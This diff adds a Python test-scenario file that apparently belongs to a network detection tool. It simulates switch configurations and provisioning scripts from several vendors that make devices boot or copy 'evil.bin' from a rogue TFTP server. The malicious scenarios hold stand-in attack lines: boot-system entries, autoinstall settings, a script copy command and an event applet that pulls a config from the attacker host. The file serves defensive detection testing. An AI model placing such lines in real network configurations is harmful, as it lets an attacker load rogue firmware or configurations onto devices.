@@ -1,0 +1,214 @@
+"""BW08: boot lines in other vendors' configurations, in scripts, and in configurations that cannot be read."""
+
+from __future__ import annotations
+
+import gzip
+import zipfile
+from io import BytesIO
+
+from bootwarden.scenarios.model import Alert, Expect, Notice, scenario
+from bootwarden.scenarios.sites import BOOT_SERVER, HQ, IMAGE, ROGUE
+from bootwarden.traffic import ftp, http, tftp
+from bootwarden.traffic.images import config
+from bootwarden.traffic.wire import START, Wire
+
+EVIL = f"tftp://{ROGUE}/evil.bin"
+SAID = f"tftp://{BOOT_SERVER}/{IMAGE}"
+
+
+def served(last: int, file: str, server: str = ROGUE) -> Notice:
+    """The notice of one configuration of device 10.0.1.``last``."""
+    return Notice("Boot_Config_Served", f"10.0.1.{last}", server, file)
+
+
+def junos(lines: str) -> bytes:
+    """A Junos configuration with a statement in its system block."""
+    return f"""\
+## Last commit: 2026-01-05 08:00:00 UTC by root
+version 21.4R1.12;
+system {{
+    host-name ex1;
+{lines}    syslog {{
+        host 10.0.9.20 {{
+            any any;
+        }}
+    }}
+}}
+""".encode()
+
+
+def procurve(line: str) -> bytes:
+    """A ProCurve configuration."""
+    return f"""\
+; J9147A Configuration Editor; Created on release #W.15.14.0007
+
+hostname "access1"
+{line}
+interface 1
+   name "up"
+   exit
+snmp-server community "public" operator
+""".encode()
+
+
+AUTOINSTALL = f"""\
+    autoinstallation {{
+        configuration-servers {{
+            "tftp://{ROGUE}/ex1.conf" password "$9$hunter2";
+        }}
+        interfaces {{
+            ge-0/0/0 {{
+                bootp;
+            }}
+        }}
+    }}
+"""
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    plain=Expect(alerts=(Alert(1542005080, BOOT_SERVER, "10.0.1.12"),)),
+    site=HQ,
+    with_site=Expect(
+        (
+            served(11, "access1.cfg"),
+            served(12, "icx1.cfg"),
+            served(13, "ex1.conf"),
+            served(14, "ex2.conf"),
+            served(15, "boot-config"),
+            served(16, "leaf2-confg"),
+        ),
+        alerts=(Alert(1542108000, BOOT_SERVER, "10.0.1.12"),),
+    ),
+)
+def bw08_other_vendors(wire: Wire) -> None:
+    """Configurations of ProCurve, FastIron, Junos in both styles, EOS and NX-OS name a server that nobody declared."""
+    for last, name, text in (
+        (11, "access1.cfg", procurve(f"auto-tftp {ROGUE} W_evil.swi")),
+        (12, "icx1.cfg", b"ver 08.0.30\n!\nhostname icx1\nboot system tftp " + f"{ROGUE} evil.bin\n!\nend\n".encode()),
+        (13, "ex1.conf", junos(AUTOINSTALL)),
+        (
+            14,
+            "ex2.conf",
+            f"set version 21.4R1.12\nset system autoinstallation configuration-servers {EVIL}\n".encode(),
+        ),
+        (15, "boot-config", f"SWI={EVIL}\n".encode()),
+        (16, "leaf2-confg", f"!Command: show run\nversion 9.3(3)\nhostname leaf2\nboot nxos {EVIL}\n".encode()),
+    ):
+        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    site=HQ,
+    with_site=Expect((served(21, "execute.txt"), served(22, "/ztp/provision.py"), served(23, "edge23-confg"))),
+)
+def bw08_scripts(wire: Wire) -> None:
+    """Commands in scripts: Smart Install's list, a provisioning script by HTTP, an event applet in a configuration."""
+    commands = f'"configure replace {EVIL}" "y"\n"write memory"\n'
+    tftp.read(wire, "10.0.1.21", BOOT_SERVER, "execute.txt", commands.encode(), client_port=50021)
+    script = f"""\
+#!/usr/bin/env python3
+# cli("copy tftp://10.0.6.67/commented-out flash:")
+from cli import cli, configurep
+cli('copy {EVIL} flash:')
+configurep(["boot system flash:evil.bin", "end"])
+"""
+    http.get(wire, "10.0.1.22", BOOT_SERVER, "/ztp/provision.py", script.encode(), client_port=50022)
+    lines = (
+        "event manager applet EVIL",
+        " event syslog pattern SYS-5-RESTART",
+        ' action 1.0 cli command "enable"',
+        f' action 2.0 cli command "copy {EVIL} running-config" pattern "confirm"',
+    )
+    tftp.read(wire, "10.0.1.23", BOOT_SERVER, "edge23-confg", config("edge23", lines), client_port=50023)
+
+
+@scenario(
+    "BW08",
+    "benign",
+    site=HQ,
+    with_site=Expect(
+        evidence=tuple(
+            {"device": device, "evidence": f"Bootwarden::{kind}", "object": shown}
+            for device, shown in (("10.0.1.31", "zip"), ("10.0.1.32", "gzip"), ("10.0.1.33", "gzip"))
+            for kind, shown in (
+                ("FILE_FETCH", "WRQ" if device == "10.0.1.31" else "RRQ" if device == "10.0.1.32" else "FTP"),
+                ("BOOT_CONFIG", shown),
+                ("FILE_CONTENT", "WRQ" if device == "10.0.1.31" else "RRQ" if device == "10.0.1.32" else "FTP"),
+            )
+        )
+    ),
+)
+def bw08_compressed(wire: Wire) -> None:
+    """Compressed configurations are named as unread: a VRP's zip is saved, Junos' gzip is read by TFTP and FTP."""
+    archive = BytesIO()
+    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as packed:
+        packed.writestr(zipfile.ZipInfo("vrpcfg.cfg", (2026, 1, 5, 8, 0, 0)), "sysname core1\n")
+    tftp.write(wire, "10.0.1.31", BOOT_SERVER, "vrpcfg.zip", archive.getvalue(), client_port=50031)
+    text = gzip.compress(junos(AUTOINSTALL), mtime=START // 1_000_000)
+    tftp.read(wire, "10.0.1.32", BOOT_SERVER, "juniper.conf.gz", text, client_port=50032)
+    ftp.retrieve(wire, "10.0.1.33", BOOT_SERVER, "juniper.conf.1.gz", text, client_port=50033)
+
+
+@scenario(
+    "BW08",
+    "benign",
+    # A rule reads no banners.
+    plain=Expect(alerts=tuple(Alert(1542005080, BOOT_SERVER, f"10.0.1.{last}") for last in (41, 42, 43))),
+    site=HQ,
+    with_site=Expect(
+        evidence=tuple(
+            {"device": f"10.0.1.{last}", "evidence": f"Bootwarden::FILE_{kind}", "verdict": "expected"}
+            for last in (41, 42, 43, 44)
+            for kind in ("FETCH", "CONTENT")
+        )
+    ),
+)
+def bw08_banners_and_archives(wire: Wire) -> None:
+    """Banners, archives, local scripts and other vendors' settings speak of TFTP, and boot from nowhere."""
+    lines = (
+        "banner motd ^C",
+        f"boot system {SAID} is what nobody may write here,",
+        f"nor copy {SAID} flash:",
+        "^C",
+        f"banner exec #boot system {SAID}#",
+        "ip tftp source-interface Loopback0",
+        "archive",
+        f" path tftp://{ROGUE}/$h",
+        "event manager applet HELLO",
+        ' action 1.0 cli command "show version"',
+        f' action 2.0 syslog msg "copy {SAID} flash:"',
+        f"alias exec evil boot system {SAID}",
+    )
+    tftp.read(wire, "10.0.1.41", BOOT_SERVER, "edge41-confg", config("edge41", lines), client_port=50041)
+    text = (
+        f'#\nsysname core1\n#\nheader login information "\nboot system {SAID}\n"\nstartup system-software flash:/x.cc\n'
+    )
+    tftp.read(wire, "10.0.1.42", BOOT_SERVER, "core1.cfg", text.encode(), client_port=50042)
+    text = f"! EOS\nhostname leaf1\nbanner login\nboot system {SAID}\nEOF\nboot system flash:EOS.swi\n"
+    tftp.read(wire, "10.0.1.43", BOOT_SERVER, "leaf1-confg", text.encode(), client_port=50043)
+    login = f'    login {{\n        message "request system software add {SAID}";\n    }}\n'
+    tftp.read(wire, "10.0.1.44", BOOT_SERVER, "ex4.conf", junos(login), client_port=50044)
+    script = f"#!/bin/sh\nSERVER={ROGUE}\nIMAGE=x\necho fetching from $SERVER\nset_boot() {{ true; }}\n"
+    http.get(wire, "10.0.1.45", BOOT_SERVER, "/ztp/inventory.sh", script.encode(), client_port=50045)
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    plain=Expect(alerts=tuple(Alert(1542005080, BOOT_SERVER, f"10.0.1.{last}") for last in (51, 52))),
+    site=HQ,
+    with_site=Expect(
+        (served(51, "edge51-confg"), served(52, "edge52-confg")),
+        alerts=tuple(Alert(1542108000, BOOT_SERVER, f"10.0.1.{last}") for last in (51, 52)),
+    ),
+)
+def bw08_behind_banners(wire: Wire) -> None:
+    """Boot lines hide behind a banner that ends in its own line, and in one that never ends."""
+    lines = ("banner motd ^C go away ^C", f"boot system {EVIL}")
+    tftp.read(wire, "10.0.1.51", BOOT_SERVER, "edge51-confg", config("edge51", lines), client_port=50051)
+    lines = ("banner motd ~", f"boot system {EVIL}")
+    tftp.read(wire, "10.0.1.52", BOOT_SERVER, "edge52-confg", config("edge52", lines), client_port=50052)
